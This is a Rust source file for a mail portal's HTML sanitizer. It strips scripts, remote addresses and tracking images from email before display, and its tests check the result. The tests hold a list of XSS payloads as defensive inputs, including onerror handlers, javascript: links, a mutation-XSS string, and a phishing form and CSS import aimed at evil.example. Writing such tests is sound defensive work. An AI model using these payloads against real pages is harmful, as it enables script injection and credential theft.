//! Making foreign HTML safe to show.
//!
//! Job: reduce the HTML of a mail to what can neither run, nor reach another server, nor pose as the portal. Place:
//! between a message's body and its page; the page's Content-Security-Policy stands behind it. Invariants: [`CleanHtml`]
//! is made here only; nothing in it names another server but links that the reader follows on purpose. A crash leaves
//! nothing.

use crate::structure::Attachment;
use ammonia::{Builder, UrlRelative};
use std::{
    borrow::Cow,
    collections::{HashMap, HashSet},
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
};

/// HTML that is safe to put into a page.
pub struct CleanHtml(String);

impl CleanHtml {
    /// The text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

/// Style properties that dress text and tables; none that takes a place on the page or fetches anything.
const STYLES: [&str; 23] = [
    "background-color",
    "border",
    "border-bottom",
    "border-collapse",
    "border-color",
    "border-left",
    "border-right",
    "border-style",
    "border-top",
    "border-width",
    "color",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "line-height",
    "list-style-type",
    "padding",
    "text-align",
    "text-decoration",
    "vertical-align",
    "white-space",
    "width",
];

/// Tags of a page that is cleaned. Cleaning takes the square of the depth: this many, each inside the one before, take a
/// fraction of a second.
const MOST_TAGS: usize = 10_000;

/// The bare text of HTML that has more tags than are cleaned; `None` where it can be cleaned.
pub fn bare_text(html: &str) -> Option<String> {
    if html.bytes().filter(|b| *b == b'<').count() <= MOST_TAGS {
        return None;
    }
    let texts = html.split('<').map(|piece| piece.split_once('>').map_or(piece, |(_, text)| text));
    Some(texts.filter(|text| !text.trim().is_empty()).collect::<Vec<_>>().join(" "))
}

/// Cleans the HTML of a message and counts what was blocked. Pictures that came with the message are shown from
/// `/messages/{reference}/images/{number}`.
pub fn clean(html: &str, reference: &str, attachments: &[Attachment]) -> (CleanHtml, usize) {
    let pictures: HashMap<String, String> = attachments
        .iter()
        .enumerate()
        .filter(|(_, a)| is_picture_type(&a.media_type))
        .filter_map(|(n, a)| Some((a.content_id.clone()?, format!("/messages/{reference}/images/{n}"))))
        .collect();
    let blocked = Arc::new(AtomicUsize::new(0));
    let counter = blocked.clone();
    let cleaned = Builder::default()
        .add_generic_attributes(["style", "align", "valign", "bgcolor", "dir"])
        .add_tag_attributes("table", ["width", "cellpadding", "cellspacing", "border"])
        .add_tag_attributes("td", ["width"])
        .add_tags(["font", "center", "u", "big"])
        .add_tag_attributes("font", ["color", "size", "face"])
        .rm_tags(["map", "area"])
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel", "cid", "data"]))
        // The filter below lets no relative address through but those that it makes itself.
        .url_relative(UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .filter_style_properties(HashSet::from(STYLES))
        .attribute_filter(move |element, attribute, value| match (element, attribute) {
            ("img", "src") => {
                let shown = picture(value, &pictures);
                if shown.is_none() {
                    counter.fetch_add(1, Ordering::Relaxed);
                }
                shown
            }
            ("a", "href") if ["http:", "https:", "mailto:", "tel:"].iter().any(|s| starts_with(value, s)) => {
                Some(value.into())
            }
            // Every other attribute that takes an address: cite, background, longdesc.
            (_, "href" | "src" | "cite" | "background" | "longdesc" | "srcset") => None,
            (_, "style") if value.to_ascii_lowercase().contains("url") => {
                counter.fetch_add(1, Ordering::Relaxed);
                None
            }
            _ => Some(value.into()),
        })
        .clean(html)
        .to_string();
    (CleanHtml(cleaned), blocked.load(Ordering::Relaxed))
}

fn starts_with(value: &str, prefix: &str) -> bool {
    value.trim_start().get(..prefix.len()).is_some_and(|start| start.eq_ignore_ascii_case(prefix))
}

fn picture<'u>(value: &'u str, pictures: &HashMap<String, String>) -> Option<Cow<'u, str>> {
    if let Some(id) = value.trim().strip_prefix("cid:") {
        return pictures.get(id).map(|path| Cow::Owned(path.clone()));
    }
    let inline =
        ["png", "jpeg", "gif", "webp"].iter().any(|kind| starts_with(value, &format!("data:image/{kind};base64,")));
    inline.then_some(Cow::Borrowed(value))
}

/// Formats that browsers decode in a sandbox and that carry no script.
pub fn is_picture_type(media_type: &str) -> bool {
    matches!(media_type, "image/png" | "image/jpeg" | "image/gif" | "image/webp")
}

/// The format of a picture by its first bytes: what the sender claims does not count.
pub fn sniff_picture(start: &[u8]) -> Option<&'static str> {
    if start.starts_with(b"\x89PNG\r\n\x1a\n") {
        Some("image/png")
    } else if start.starts_with(b"\xff\xd8\xff") {
        Some("image/jpeg")
    } else if start.starts_with(b"GIF87a") || start.starts_with(b"GIF89a") {
        Some("image/gif")
    } else if start.starts_with(b"RIFF") && start.get(8..12) == Some(b"WEBP") {
        Some("image/webp")
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::structure::Coding;

    fn cleaned(html: &str) -> (String, usize) {
        let picture = Attachment {
            name: "logo.png".into(),
            media_type: "image/png".into(),
            coding: Coding::Base64,
            start: 0,
            end: 0,
            length: 0,
            content_id: Some("logo@x".into()),
            inline: true,
        };
        let (clean, blocked) = clean(html, "ref", &[picture]);
        (clean.0, blocked)
    }

    #[test]
    fn nothing_that_runs_is_left() {
        for html in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)><script>1</script></svg>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" jAvAsCrIpT:alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<form action=https://evil.example><input name=password></form>",
            "<style>@import 'https://evil.example/x.css'</style>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<base href=https://evil.example/>",
            "<object data=https://evil.example/x.swf></object><embed src=x>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<div style=\"position:fixed;top:0;background-image:url(https://evil.example)\">x</div>",
        ] {
            let (clean, _) = cleaned(html);
            let lower = clean.to_ascii_lowercase();
            for harm in [
                "script",
                "onerror",
                "onload",
                "javascript",
                "iframe",
                "<form",
                "<input",
                "evil.example",
                "position",
                "<style",
                "data:",
            ] {
                assert!(!lower.contains(harm), "{html} left {clean}");
            }
        }
    }

    #[test]
    fn pictures_of_other_servers_are_blocked_and_those_that_came_along_shown() {
        let (clean, blocked) = cleaned(
            "<img src=\"https://evil.example/p.gif\"><img src=\"//evil.example/p.gif\"><img src=\"cid:logo@x\">\
             <img src=\"cid:unknown\"><img src=\"data:image/svg+xml;base64,AAAA\"><img src=\"data:image/png;base64,AAAA\">",
        );
        assert!(!clean.contains("evil.example") && !clean.contains("svg"), "{clean}");
        assert!(clean.contains("/messages/ref/images/0") && clean.contains("data:image/png"), "{clean}");
        assert!(blocked >= 3, "{blocked}");
    }

    #[test]
    fn ordinary_dress_stays() {
        let (clean, blocked) = cleaned(
            "<p style=\"color:red;position:absolute\">Hi <b>you</b></p><table border=\"1\"><tr><td bgcolor=\"#fff\">x</td></tr></table>\
             <a href=\"https://example.org/\">link</a>",
        );
        assert!(clean.contains("color:red") && !clean.contains("absolute"), "{clean}");
        assert!(clean.contains("<b>you</b>") && clean.contains("<table border=\"1\">"), "{clean}");
        assert!(clean.contains("href=\"https://example.org/\"") && clean.contains("noreferrer"), "{clean}");
        assert_eq!(blocked, 0);
    }

    #[test]
    fn a_picture_is_what_its_bytes_say() {
        assert_eq!(sniff_picture(b"\x89PNG\r\n\x1a\nrest"), Some("image/png"));
        assert_eq!(sniff_picture(b"<svg xmlns"), None);
        assert_eq!(sniff_picture(b"<html>"), None);
        assert_eq!(sniff_picture(b""), None);
    }

    #[test]
    fn html_of_endless_depth_is_shown_as_its_bare_text() {
        let deep = format!("{}the <b>point</b>", "<div>".repeat(2 * MOST_TAGS));
        assert_eq!(bare_text(&deep).as_deref(), Some("the  point"));
        assert_eq!(bare_text("<p>the <b>point</b></p>"), None);
    }
}
